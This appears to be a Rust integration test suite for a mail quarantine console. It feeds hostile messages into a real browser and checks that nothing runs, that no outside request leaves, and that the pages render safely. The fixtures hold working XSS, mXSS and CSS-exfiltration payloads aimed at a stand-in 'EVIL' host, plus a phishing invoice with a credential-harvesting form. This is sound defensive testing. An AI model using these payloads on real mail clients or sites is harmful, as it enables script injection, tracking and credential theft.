//! Hostile mail in a real browser: nothing runs, nothing is asked of anybody, and how the pages look.
use super::{
    people::{PASSWORD, Person},
    review::{gate, held, hold},
};
use crate::support::{Browser, Gate, Mta, wait};
use std::{
    net::{IpAddr, TcpListener},
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
};

/// Somebody who counts whoever comes.
fn listener(at: IpAddr) -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind((at, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&count);
    thread::spawn(move || {
        for _ in listener.incoming() {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, count)
}

/// What attacks a reader: each asks for `evil`, or changes the title.
fn hostile(evil: &str) -> String {
    [
        "<script>document.title='owned'; fetch('EVIL/script')</script>",
        "<script src=EVIL/a.js></script>",
        "<img src=EVIL/pixel.gif width=1 height=1><img src=x onerror=\"document.title='owned'\">",
        "<img srcset='EVIL/set 1x'><picture><source srcset=EVIL/p></picture>",
        "<form action=EVIL/form><input name=q value=secret><button>Go</button></form><script>document.forms[0].submit()</script>",
        "<style>@import url(EVIL/import.css);body{background:url(EVIL/bg)}input[value^=s]{background:url(EVIL/leak)}@font-face{font-family:x;src:url(EVIL/font)}*{font-family:x}</style>",
        "<link rel=stylesheet href=EVIL/x.css><link rel=prefetch href=EVIL/pre><link rel=dns-prefetch href=EVIL>",
        "<svg onload=\"document.title='owned'\"><image href='EVIL/svg.png'/><script>document.title='owned'</script><use href='EVIL/use.svg#x'/></svg>",
        "<a href=\"javascript:document.title='owned'\" id=link>click me</a><a href='data:text/html,<script>parent.document.title=1</script>'>data</a>",
        "<meta http-equiv=refresh content='0;url=EVIL/refresh'><base href=EVIL/>",
        "<iframe src=EVIL/frame></iframe><object data=EVIL/object></object><embed src=EVIL/embed>",
        "<video src=EVIL/video poster=EVIL/poster autoplay></video><audio src=EVIL/audio autoplay></audio>",
        "<body onload=\"document.title='owned'\" background=EVIL/body>",
        "<div style=\"background-image:url('EVIL/style');position:fixed;top:0;left:0;width:100%;height:100%\">over everything</div>",
        "<table background=EVIL/table><tr><td>cell</td></tr></table>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=EVIL/mxss onerror=document.title='owned'&gt;\">",
        "<p>the end of it \u{202e}txt.exe</p>",
    ]
    .join("\r\n")
    .replace("EVIL", evil)
}

fn message(evil: &str) -> Vec<u8> {
    let html = hostile(evil);
    format!(
        "From: \"<img src={evil}/from onerror=alert(1)> \u{202e}moc.knab\" <a@example.com>\r\nTo: b@example.org\r\n\
        Subject: hold <script>document.title='owned'</script> \u{202e}gnp.exe\r\nX-Evil: \"><img src={evil}/header>\r\n\
        Content-Type: multipart/mixed; boundary=b\r\n\r\n\
        --b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n\
        --c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n</pre><script src={evil}/text></script> {evil}/plain \u{200b}hidden\r\n\
        --c\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--c--\r\n\
        --b\r\nContent-Type: text/html; name=\"<img src={evil}/name>.html\"\r\nContent-Disposition: attachment\r\n\r\n<script>1</script>\r\n--b--\r\n"
    )
    .into_bytes()
}

fn sign_in(browser: &Browser, gate: &Gate, person: &Person, steps: i64) -> impl Fn(&str) -> String {
    let port = gate.console().port();
    let at = move |path: &str| format!("https://mx.example.org:{port}{path}");
    browser.open(&at("/"));
    browser.type_into("input[name=name]", &person.name);
    browser.type_into("input[name=password]", PASSWORD);
    browser.click("main button.primary");
    browser.type_into("input.digits", &person.code(steps));
    browser.click("main button.primary");
    browser.find("nav.places");
    at
}

#[test]
fn nothing_of_hostile_mail_runs_and_no_request_leaves() {
    let mta = Mta::start();
    let gate = gate(&mta);
    let anna = Person::new(&gate, "anna", &["reviewer"], &["*"]);
    // Under the one name that the browser can resolve, so that it would get there.
    let (port, count) = listener(gate.console().ip());
    let evil = format!("http://mx.example.org:{port}");
    let id = held(&gate, "a@example.net", &["b@example.org"], &message(&evil));
    let Some(browser) = Browser::start(gate.console().ip()) else { return };
    let at = sign_in(&browser, &gate, &anna, 0);
    // The console's own policy keeps its pages from asking others.
    browser.run(&format!("return fetch('{evil}/').then(() => 1, () => 0)"));
    drop(browser.complaints());
    assert_eq!(count.load(Ordering::SeqCst), 0);
    browser.requests();
    let pages = ["", "?tab=text", "?tab=html", "?tab=headers", "?tab=structure", "?tab=files", "?tab=source"];
    let mut all = vec![at("/quarantine")];
    all.extend(pages.map(|tab| at(&format!("/quarantine/{id}{tab}"))));
    all.push(at(&format!("/quarantine/{id}/html")));
    for url in &all {
        browser.open(url);
        // What would run would have run by then.
        wait::pause(std::time::Duration::from_millis(300));
        assert!(!browser.title().contains("owned") || browser.title().starts_with("hold <script>"), "{url}: {}", browser.title());
        let elsewhere: Vec<_> =
            browser.requests().into_iter().filter(|asked| !asked.starts_with(&at("/")) && !asked.starts_with("data:")).collect();
        assert!(elsewhere.is_empty(), "{url}: {elsewhere:?}");
    }
    assert_eq!(count.load(Ordering::SeqCst), 0, "somebody was asked");
    // In the frame the words are there, with where they would have led; a click does nothing.
    browser.open(&at(&format!("/quarantine/{id}?tab=html")));
    browser.enter_frame("iframe.mail");
    let shown = browser.text("body");
    for words in ["the end of it", "‹script›", "‹form›", "‹img 1×1›", "javascript[:]", "hxxp://mx[.]example[.]org", "⟨U+202E⟩"]
    {
        assert!(shown.contains(words), "{words} is not in {shown}");
    }
    assert_eq!(browser.count("a, img, form, input, script, svg, iframe, link, meta[http-equiv], base, video, object"), 0);
    browser.click("span.link");
    browser.leave_frame();
    assert!(browser.url().contains("tab=html"));
    let headers = {
        browser.open(&at(&format!("/quarantine/{id}?tab=headers")));
        browser.text("dl.headers")
    };
    assert!(headers.contains("<img src=") && headers.contains("⟨U+202E⟩"), "{headers}");
    browser.open(&at(&format!("/quarantine/{id}")));
    assert!(browser.text("pre.mail").contains("</pre><script") && browser.text("pre.mail").contains("⟨U+200B⟩"));
    assert!(browser.text("h1").contains("<script>"));
    assert_eq!(count.load(Ordering::SeqCst), 0, "somebody was asked");
    // Whoever does ask is counted.
    browser.run(&format!("location.href = '{evil}'"));
    wait::until("the listener to count", || (count.load(Ordering::SeqCst) > 0).then_some(()));
    drop(mta);
}

#[test]
fn a_huge_message_is_shown_by_its_beginning() {
    let mta = Mta::start();
    let gate = gate(&mta);
    let anna = Person::new(&gate, "anna", &["reviewer"], &["*"]);
    let mut content = b"Subject: hold huge\r\nContent-Type: text/html\r\n\r\n".to_vec();
    content.extend(b"<div><b x=1><table><tr><td>deep <p>\r\n".repeat(300_000));
    let id = held(&gate, "a@example.net", &["b@example.org"], &content);
    let mut web = anna.web(&gate);
    let begun = std::time::Instant::now();
    for tab in ["text", "html", "source", "structure"] {
        let page = web.get(&format!("/quarantine/{id}?tab={tab}")).must(200);
        assert!(page.body.len() < 3 << 20, "{tab}: {}", page.body.len());
    }
    let frame = web.get(&format!("/quarantine/{id}/html")).must(200);
    assert!(frame.header("content-security-policy").unwrap().contains("sandbox"));
    assert!(begun.elapsed() < 2 * wait::PATIENCE, "{:?}", begun.elapsed());
}

#[test]
fn how_the_quarantine_looks_and_how_keys_move_in_it() {
    let mta = Mta::start();
    let gate = gate(&mta);
    let anna = Person::new(&gate, "anna", &["senior"], &["*"]);
    Person::new(&gate, "bert", &["senior"], &["*"]);
    let invoice = "From: \"Your Bank\" <service@bank.example>\r\nTo: billing@example.org\r\nSubject: hold Invoice 2026-4711 is overdue\r\nMessage-ID: <1@bank.example>\r\n\
        Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n--c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
        Dear customer,\r\n\r\nyour invoice is overdue. Please sign in at https://bank.example.evil.example/login within 24 hours,\r\nor your account will be closed.\r\n\r\nYours,\r\nYour Bank\r\n\
        --c\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<div style=\"background:#0a3d7a;color:#fff;padding:12px\"><b>Your Bank</b></div><p>Dear customer,</p><p>your invoice is <b>overdue</b>. \
        <a href='https://bank.example.evil.example/login?id=4711'>https://www.bank.example/</a></p><img src='https://track.evil.example/p.gif' width=1 height=1><form action='https://evil.example/'><input type=password></form>\r\n--c--\r\n\
        --b\r\nContent-Type: application/pdf; name=\"invoice.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVpQAAIAAAAEAA8A//8AALgAAAAAAAAAQAAaAAAAAAAAAAAA\r\n--b--\r\n";
    let id = held(&gate, "bounce-77@mailer.evil.example", &["billing@example.org", "boss@example.org"], invoice.as_bytes());
    for (n, subject) in [
        "hold newsletter of the week",
        "virus in a letter",
        "hold a rather long subject that goes on and on, as those of some newsletters do, and then some more",
    ]
    .iter()
    .enumerate()
    {
        hold(&gate, subject, &[&format!("user{n}@example.org")]);
    }
    let Some(browser) = Browser::start(gate.console().ip()) else { return };
    let at = sign_in(&browser, &gate, &anna, 0);
    browser.open(&at("/quarantine"));
    browser.screenshots("quarantine");
    assert_eq!(browser.count("#entries tbody tr"), 4);
    browser.open(&at("/quarantine?q=nothing"));
    browser.screenshots("quarantine-nothing-found");
    browser.open(&at(&format!("/quarantine/{id}")));
    browser.screenshots("entry");
    for tab in ["html", "headers", "structure", "files", "source"] {
        browser.open(&at(&format!("/quarantine/{id}?tab={tab}")));
        browser.screenshots(&format!("entry-{tab}"));
    }
    // By keyboard alone: down, choose, search, open, back.
    browser.open(&at("/quarantine?q=hold"));
    browser.press("jjx");
    assert_eq!(browser.count("#entries tr.chosen"), 1);
    browser.press("?");
    browser.press("/");
    assert_eq!(browser.run("return document.activeElement.id"), "search");
    browser.open(&at("/quarantine?q=hold"));
    browser.press("j\u{E007}");
    browser.find(".entry");
    assert!(browser.url().contains("?q=hold"), "{}", browser.url());
    browser.press("j");
    browser.find("#before");
    browser.press("\u{E017}");
    browser.wait_text("h1", "Delete for good?");
    browser.screenshots("confirm");
    // Somebody asks, another sees it.
    browser.open(&at("/quarantine?class=malware"));
    browser.click("#entries td.subject a");
    browser.type_into("textarea[name=why]", "They wait for it, and it was scanned again by hand.");
    browser.click("#release");
    browser.wait_text("main", "waits for another person");
    browser.screenshots("entry-asked");
    browser.open(&at(&format!("/quarantine/{id}")));
    browser.type_into("textarea[name=text]", "Called the bank: it is not from them.");
    browser.click("button[value=note]");
    browser.wait_text("main", "Called the bank");
    browser.click("#release");
    browser.wait_text(".flash", "Released to");
    browser.screenshots("entry-released");
    browser.click("a[href^='/messages/']");
    browser.find("table.steps");
    browser.screenshots("message-full");
    assert!(gate.octroi(&["quarantine", "allow", &id, "--days", "3"], "").success);
    browser.open(&at("/quarantine/allowances"));
    browser.screenshots("allowances");
    browser.speak("fr");
    for (path, name) in [("/quarantine", "fr-quarantine-held"), ("/quarantine/allowances", "fr-allowances")] {
        browser.open(&at(path));
        browser.screenshots(name);
    }
    browser.open(&at(&format!("/quarantine/{id}")));
    browser.screenshots("fr-entry");
    browser.speak("en");
    let complaints = browser.complaints();
    assert!(complaints.is_empty(), "{complaints:?}");
    assert_eq!(browser.requests().into_iter().find(|url| !url.starts_with(&at("/")) && !url.starts_with("data:")), None);
    browser.open(&at("/audit"));
    browser.screenshots("forbidden");
}
